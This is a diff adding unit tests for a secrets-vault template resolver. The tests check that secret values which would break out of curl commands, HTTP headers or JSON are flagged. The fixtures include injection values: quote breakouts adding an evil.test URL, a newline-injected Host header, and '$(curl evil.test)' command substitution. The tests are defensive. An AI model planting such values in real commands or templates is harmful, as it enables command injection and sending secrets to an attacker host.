@@ -85,3 +85,58 @@ describe('a restricted secret where no address can be checked', () => {
     expect(await it.core.templates.resolve('x'.repeat(70_000))).toEqual(endless);
   });
 });
+
+describe('a value that would end what it stands in', () => {
+  const VALUES: Readonly<Record<string, string>> = {
+    quotes: `a" https://evil.test "`,
+    blanks: 'a evil.test',
+    lines: 'a\nHost: evil.test',
+    expanded: '$(curl evil.test)',
+    single: `it's`,
+  };
+  const RESTRICTED = 'curl https://api.example.com -u {{vault:A}}';
+
+  beforeEach(async () => {
+    for (const [name, value] of Object.entries(VALUES)) {
+      valueOf(await it.core.secrets.add({ name, value, domains: '' }));
+    }
+  });
+
+  const names = async (text: string) => {
+    const { text: filled, failed } = valueOf(await it.core.templates.resolve(text));
+    for (const { problem } of failed) expect(problem).toEqual({ code: 'template.valueBreaks' });
+    for (const { name } of failed) expect(filled).toContain(`{{vault:${name}}}`);
+    return failed.map(({ name }) => name);
+  };
+
+  test.each([
+    [`${RESTRICTED} -d "{{vault:quotes}}"`, ['quotes']],
+    [`${RESTRICTED} -d '{{vault:quotes}}'`, []],
+    [`${RESTRICTED} -d {{vault:blanks}}`, ['blanks']],
+    [`${RESTRICTED} -d "{{vault:blanks}}"`, []],
+    [`${RESTRICTED} -d '{{vault:single}}' -H $'X: {{vault:single}}'`, ['single']],
+    [`${RESTRICTED} -d "{{vault:expanded}}"`, ['expanded']],
+    [`${RESTRICTED} -H 'X: {{vault:lines}}'`, ['lines']],
+    [`${RESTRICTED}\n# {{vault:lines}}`, ['lines']],
+    [`${RESTRICTED} -d @- <<EOF\n{{vault:expanded}}\nEOF`, ['expanded']],
+    [`curl ^\n https://api.example.com -u {{vault:A}} -d "{{vault:expanded}}"`, ['expanded']],
+    ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:lines}}', ['lines']],
+    ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:quotes}}', []],
+    ['{"url": "https://api.example.com", "key": "{{vault:A}} {{vault:quotes}}"}', ['quotes']],
+    // Nothing is restricted there, and nothing is promised.
+    ['curl https://api.example.com -d "{{vault:quotes}}"', []],
+  ])('%j', async (text, expected) => {
+    expect(await names(text)).toEqual(expected);
+  });
+
+  test('a text that its values make endless is refused', async () => {
+    const value = 'x'.repeat(64 * 1024);
+    valueOf(await it.core.secrets.add({ name: 'LONG', value, domains: '' }));
+    const { resolve } = it.core.templates;
+    expect((await resolve('{{vault:LONG}}'.repeat(10))).ok).toBe(true);
+    expect(await resolve('{{vault:LONG}}'.repeat(100))).toMatchObject({
+      ok: false,
+      problem: { code: 'template.filledTooLong' },
+    });
+  });
+});
